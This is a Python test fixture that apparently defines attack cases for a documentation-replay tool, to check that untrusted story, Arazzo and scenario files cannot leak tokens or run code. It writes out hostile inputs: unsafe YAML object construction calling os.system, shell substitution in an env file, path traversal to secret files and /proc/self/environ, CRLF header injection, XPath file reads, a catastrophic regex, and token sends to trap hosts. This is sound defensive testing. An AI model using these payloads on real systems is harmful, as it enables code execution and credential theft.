"""Ways to take a token or run code by story, Arazzo and scenario files: see `tests.safety.attacks`.

The base revision has `stories = ["stories/*"]`; what a pull request puts there runs.
"""

import json
from collections.abc import Mapping

from tests.safety.conftest import page

_PAGE = "docs_source/en-us/evil.md"
_TOKEN = "$env:API_TOKEN"  # the name of a variable
_COMMAND = "$cmd:touch @MARK@"
_OUT = "../../../outside/secret.md"


def _steps(*steps: str, head: str = "") -> Mapping[str, str]:
    """Return a story with steps, each in the lines of its table."""
    own = "".join(f'\n[[story.steps]]\nid = "s{at}"\n{step}\n' for at, step in enumerate(steps))
    return {"stories/evil.toml": f'[[story]]\nid = "evil"\n{head}{own}'}


def _arazzo(source: str, step: str = "operationId: evil") -> Mapping[str, str]:
    """Return an Arazzo document about a description, and a description with a foreign server."""
    return {
        "stories/evil.yaml": 'arazzo: 1.1.0\ninfo: {title: a, version: "1"}\n'
        f"sourceDescriptions: [{{name: a, url: '{source}', type: openapi}}]\n"
        f"workflows:\n- workflowId: w\n  steps:\n  - stepId: s\n    {step}\n",
        "api.yaml": 'openapi: 3.1.0\ninfo: {title: a, version: "1"}\nservers: [{url: "@TRAP@"}]\n'
        "paths:\n  /x:\n    servers: [{url: '@TRAP@'}]\n    get: {operationId: evil, servers: "
        "[{url: '@TRAP@'}], responses: {'200': {description: a}}}\n",
    }


def _scenario(parameters: Mapping[str, object], **more: object) -> Mapping[str, str]:
    scenario = {"name": "a", "method": "good", "request-parameters": parameters, **more}
    text = json.dumps({"scenarios": [scenario | {"enabled": True}]})
    return {"docreplay.toml": 'scenarios = ["tests"]', "tests/evil.json": text}


def _settings(text: str, request: str = "GET /x") -> Mapping[str, str]:
    return {"docreplay.toml": text, _PAGE: page(request)}


_FILE = "unparsed-text('file://@OUTSIDE@/secret.md')"
_XML = '[story.inputs]\nx = "<v>a</v>"\n'
STORIES: Mapping[str, Mapping[str, str]] = {
    "absolute URL": _steps('request = "GET @TRAP@/x"'),
    "URL without a scheme": _steps('request = "GET //@HOST@/x"'),
    "host header": _steps('request = "GET /x"\nheaders = { Host = "@HOST@" }'),
    "redirect that is captured": _steps(
        'request = "GET /x"\ncapture = { next = "Location:" }',
        'request = "GET {+next}"',
        'request = "GET {next}"',
    ),
    "header of the request": _steps(
        'request = "GET /x"\n'
        'check = ["$request.header.Authorization == \'a\'", { type = "regex", '
        'context = "$request.header.Authorization", condition = "^a" }]\n'
        'capture = { token = "$request.header.Authorization" }',
    ),
    "header of the request that is captured": _steps(
        'request = "GET /x"\ncapture = { a = "$request.header.Authorization" }',
        'request = "GET @TRAP@/{a}"\nheaders = { X = "$steps.s0.outputs.a" }',
    ),
    "variables": _steps(
        f'request = "GET @TRAP@/{{a}}"\nheaders = {{ X = "{_TOKEN}", Y = "{_COMMAND}" }}\n'
        f'query = {{ a = "{_TOKEN}", b = "$file:@OUTSIDE@/secret.md" }}',
        f'request = "GET /{{a}}"\nheaders = {{ X = "{{file:{_OUT}}}" }}',
        head=f'[story.inputs]\na = "{_TOKEN}"\n',
    ),
    "methods": _steps(
        'request = "DELETE /all"', head='finally = [{ id = "z", request = "DELETE /b" }]\n'
    ),
    "methods at the end only": _steps(
        'request = "GET /x"', head='finally = [{ id = "z", request = "DELETE /b" }]\n'
    ),
    "methods in disguise": _steps(
        'request = "delete /all"',
        'request = "GET /x?_method=DELETE"\nheaders = { X-HTTP-Method-Override = "DELETE" }',
    ),
    "line end in a header": _steps(
        'request = "GET /x"\nheaders = { X = "a\\r\\nHost: @HOST@", "X\\r\\nY" = "b" }'
    ),
    "a file by XPath": _steps(
        'request = "GET /x"\ncheck = [{ type = "xpath", context = "$inputs.x", condition = '
        f'"contains({_FILE}, \'zzz\')" }}]',
        head=_XML,
    ),
    "a file by XPath in comments": _steps(
        'request = "GET /x"\ncheck = [{ type = "xpath", context = "$inputs.x", condition = '
        f'"contains((: \' :) {_FILE} (: \' :), \'zzz\')" }}]',
        head=_XML,
    ),
    "a regular expression that takes for ever": _steps(
        'request = "GET /x"\ncheck = [{ type = "regex", context = "$inputs.x", condition = '
        '"(a+)+$" }]',
        head=f'[story.inputs]\nx = "{"a" * 60}!"\n',
    ),
    "source of a URL": _arazzo("@TRAP@/api.yaml"),
    "source outside": _arazzo("../../outside/secret.md"),
    "source of an absolute path": _arazzo("file://@OUTSIDE@/secret.md"),
    "servers of a source": _arazzo("../api.yaml"),
    "YAML": {"stories/evil.yaml": "story: !!python/object/apply:os.system ['touch @MARK@']\n"},
    "pattern outside": {"docreplay.toml": 'stories = ["../outside/*"]'},
    "scenario with a URL": _scenario({"!url": "@TRAP@/x", "X:": _TOKEN}),
    "scenario with code": _scenario({"{x}": "#import os; os.system('touch @MARK@')"}),
    "scenario with a captured URL": _scenario(
        {"!url": "[u]"},
        **{"test-setup": [{"method": "good", "capture": {"[u]": "Location:"}}]},
    ),
    "scenario that deletes": _scenario(
        {}, **{"test-setup": [{"http-request": "DELETE /all HTTP/1.1\n\n"}]}
    ),
    "scenarios outside": {"docreplay.toml": 'scenarios = ["../outside"]'},
    "folder of files": _settings('files = "../outside"', "GET /x\n\n{file:secret.md}"),
    "map of hosts": _settings('hosts = { "a.example.com" = "@TRAP@" }', "GET https://a.example.com/x"),
    "account": _settings(
        f'[accounts.a]\ntoken = "{_TOKEN}"\nhosts = ["@HOST@"]\n[accounts.b]\n'
        f'token-url = "@TRAP@/token"\nclient-id = "a"\nclient-secret = "{_TOKEN}"\n',
        "GET @TRAP@/x",
    ),
    "raw value as a URL": _settings(
        '[parameters]\n"+u" = "@TRAP@/x"\n"+v" = "/@HOST@/x"\nw = "@TRAP@"\n', "GET {+u}"
    ),
    "raw value as a host": _settings('[parameters]\n"+v" = "/@HOST@/x"\n', "GET /{+v}"),
    "proxy": _settings('proxy = "@TRAP@"\ninsecure = true\nca-bundle = "/proc/self/environ"'),
    "file of values": {
        "values.env": f"id={_TOKEN}\nx=$(touch @MARK@)\n", _PAGE: page("GET @TRAP@/{id}/{x}")
    },
}  # fmt: skip
"""Files by name; the command is `test`."""
